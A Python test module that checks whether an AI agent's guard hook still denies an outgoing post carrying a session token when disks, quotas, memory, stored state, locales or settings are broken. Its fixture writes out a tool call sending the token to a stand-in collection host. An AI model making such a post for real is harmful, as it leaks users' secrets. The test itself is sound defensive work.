"""A machine that fails under one hook: disks, quotas, descriptors, memory, stores, clocks, locales, settings.

Each of SITUATIONS begins with a session that has read a token, as other processes wrote it.  Then a call that carries the
token is judged in the situation: the verdict is said, or a fault is, as JSON and without a traceback.  Then the situation
is over: the level stands, and the record is as it was written, or says what was done to it.
"""
from __future__ import annotations

import json
import os
import resource
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

from hooks._stores import sessions
from hooks._stores.world import World
from tests.faults.played import TOKEN, env, payload, play
from tests.scripts import ROOT, SCRIPTS

MOUNTS = ["unshare", "-m", "sh", "-c"]
# Denied by what the session is known to hold; where that, or this setting, is lost, asked about for what it carries.
SETTINGS = '{"secrets": "show", "tools": {"mcp__x__post": {"external": true}}}'
SEND = {"tool_name": "mcp__x__post", "tool_use_id": "send", "tool_input": {"url": "https://collect.example.net/in", "text": TOKEN}}
HOLDS = b'{"learned":{"contamination":["=",[1,2]],"shell":["=","x"]},"seq":99}\n'


class Situation:
    """limit: what the process may use; shell: what is done to the state folder `$STATE` (a copy in a namespace of its
    own) before the hook; harm: what is done to the store; env: more of the environment; settings: guards.json."""

    def __init__(self, *, limit: tuple[int, int] | None = None, shell: str = "", harm: Callable[[Path], object] | None = None,
                 env: dict[str, str] | None = None, settings: str = "", verdict: tuple[str, ...] = ("deny",)) -> None:
        self.limit, self.shell, self.harm, self.env, self.settings, self.verdict = limit, shell, harm, env or {}, settings, verdict


def replaced(name: str, make: Callable[[Path], object]) -> Callable[[Path], object]:
    """The file of that name in `context/` gives way to something else."""
    def harm(state: Path) -> None:
        path = state / "context" / name
        path.unlink(missing_ok=True)
        make(path)
    return harm


def appended(data: bytes) -> Callable[[Path], object]:
    def harm(state: Path) -> None:
        with (state / "context/s.jsonl").open("ab") as file:
            file.write(data)
    return harm


TMPFS = 'cp -a "$STATE" "$STATE.copy" && mount -t tmpfs -o size={} none "$STATE" && cp -a "$STATE.copy/." "$STATE/" && '
# A quota that the file system itself keeps, for root too: a limit of btrfs on what lies in the folder.
BTRFS = ('truncate -s 200M "$STATE.img" && mkfs.btrfs -q "$STATE.img" >/dev/null 2>&1 && cp -a "$STATE" "$STATE.copy" && mkdir "$STATE.m" && '
         'mount -o loop "$STATE.img" "$STATE.m" && btrfs quota enable "$STATE.m" && btrfs subvolume create "$STATE.m/s" >/dev/null && '
         'cp -a "$STATE.copy/." "$STATE.m/s/" && sync && btrfs qgroup limit {} "$STATE.m/s" && mount --bind "$STATE.m/s" "$STATE" && '
         '{{ head -c 4000000 /dev/zero > "$STATE/fill"; sync; :; }} 2>/dev/null')
SITUATIONS: dict[str, Situation] = {
    "nothing is wrong": Situation(),
    "a disk that is full": Situation(shell=TMPFS.format("256k") + '{ head -c 900000 /dev/zero > "$STATE/fill"; :; }'),
    "a disk that is full in the midst of a row": Situation(
        shell=TMPFS.format("256k") + '{ head -c 900000 /dev/zero > "$STATE/fill"; truncate -s -4096 "$STATE/fill"; }'),
    "a disk that is read only": Situation(shell=TMPFS.format("4m") + 'mount -o remount,ro "$STATE"'),
    **{f"a quota of {size} bytes a file": Situation(limit=(resource.RLIMIT_FSIZE, size)) for size in (0, 200, 5000, 20_000)},
    "a quota of the file system": Situation(shell=BTRFS.format("400k")),
    **{f"{most} descriptors": Situation(limit=(resource.RLIMIT_NOFILE, most), verdict=("ask", "deny")) for most in (4, 5, 8)},
    **{f"{size} MiB of memory": Situation(limit=(resource.RLIMIT_AS, size << 20)) for size in (24, 32, 64)},
    **{f"the lock is {what}": Situation(harm=replaced("s.lock", make)) for what, make in {
        "a folder": Path.mkdir, "a pipe": os.mkfifo, "a link into nowhere": lambda path: path.symlink_to("nowhere"),
        "a device": lambda path: path.symlink_to("/dev/full")}.items()},
    **{f"the cache is {what}": Situation(harm=replaced("s.state.json", make)) for what, make in {
        "a folder": Path.mkdir, "a pipe": os.mkfifo, "empty": Path.touch, "garbage": lambda path: path.write_bytes(b"\x00\xff{" * 99),
        "of another version": lambda path: path.write_text('{"v": 99, "fields": []}'),
        "very deep": lambda path: path.write_bytes(b"[" * 100_000)}.items()},
    "a row of other shapes": Situation(harm=appended(HOLDS)),
    "a torn row": Situation(harm=appended(b'{"seq": 7, "learned": {"drift": ["=", {"n"')),
    "garbage after the rows": Situation(harm=appended(b"\x00\xff\n" * 50)),
    "the ledger is gone": Situation(harm=lambda state: (state / "context/s.jsonl").unlink()),
    "the folder is gone": Situation(harm=shutil.rmtree),
    "the key is a folder": Situation(harm=lambda state: [(state / "key").unlink(), (state / "key").mkdir()]),
    "no HOME": Situation(env={"HOME": ""}),
    "a HOME that is not there": Situation(env={"HOME": "/nowhere/at/all"}),
    "a time zone of garbage": Situation(env={"TZ": "../../\x01:99"}),
    "a C locale": Situation(env={"LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}),
    "a locale that is not there": Situation(env={"LC_ALL": "xx_YY.ISO-8859-1", "PYTHONUTF8": "0"}),
    "no folder for temporary files": Situation(env={"TMPDIR": "/nowhere"}),
    **{f"guards.json is {what}": Situation(settings=text, verdict=("ask", "deny")) for what, text in {
        "empty": "", "torn": '{"secrets": "sho', "a list": "[]", "very deep": "[" * 100_000, "full of odd values": json.dumps(
            {"mode": 3, "strict": "x", "guards": [1], "tools": {"*": {"destination": [1, [2]]}}, "context": "x", "policy": {"a": 1},
             "trusted_destinations": [None, 7, {}], "request": {"expected_scope": [3]}, "drift": {"semantic_distance_threshold": "NaN"}}),
        "in another alphabet": '{"日本": "\\ud800", "guards": {"контaminация": "off"}}'}.items()},
}


def run(folder: Path, name: str) -> dict[str, Any]:
    """Plays one situation: {"code", "verdict", "told", "traceback", "level" and "unexplained" afterwards}."""
    one = SITUATIONS[name]
    where = env(folder)
    (folder / "project/.autoskillit/guards.json").write_text(SETTINGS)
    play("SessionStart", payload("SessionStart", "s", 0, source="startup"), where)
    for number in range(4):
        for event in ("PreToolUse", "PostToolUse"):
            play(event, payload(event, "s", number), where)
    state = folder / "project/.autoskillit/temp"
    if one.harm:
        one.harm(state)
    if one.settings or name == "guards.json is empty":
        (folder / "project/.autoskillit/guards.json").write_text(one.settings)
    done = hook(one, {**where, **one.env}, state)
    out = done.stdout.decode("utf-8", "replace")
    answer = json.loads(out) if out.strip() else {}
    found = {"code": done.returncode, "traceback": int(b"Traceback" in done.stderr), "told": answer.get("systemMessage", ""),
             "verdict": answer.get("hookSpecificOutput", {}).get("permissionDecision", "pass"), "stderr": done.stderr.decode("utf-8", "replace")}
    after = play("PreToolUse", payload("PreToolUse", "s", 9), where)
    head = sessions.load(World(str(folder / "project"), where), "s")
    return {**found, "level": (head.fields.get("contamination") or {}).get("level", ""), "faults after": after.faults}


def hook(one: Situation, where: dict[str, str], state: Path) -> subprocess.CompletedProcess[bytes]:
    command = [sys.executable, "-I", "-S", str(ROOT / "hooks" / SCRIPTS["PreToolUse"])]
    if one.shell:
        command = [*MOUNTS, f'{one.shell} && exec "$0" "$@"', *command]
    data = json.dumps({"session_id": "s", "hook_event_name": "PreToolUse", "cwd": where["CLAUDE_PROJECT_DIR"], **SEND}).encode()
    limit = one.limit

    def limited() -> None:
        if limit:
            resource.setrlimit(limit[0], (limit[1], limit[1]))

    return subprocess.run(command, input=data, capture_output=True, env={**where, "STATE": str(state)}, timeout=60, check=False,
                          preexec_fn=limited if limit else None)


def can_mount(shell: str = "") -> bool:
    """Is a mount of our own permitted here, and what it takes at hand?"""
    if "btrfs" in shell and not (shutil.which("btrfs") and shutil.which("mkfs.btrfs") and Path("/dev/loop-control").exists()):
        return False
    return bool(shutil.which("unshare")) and subprocess.run([*MOUNTS, "mount -t tmpfs none /mnt"], capture_output=True, check=False).returncode == 0
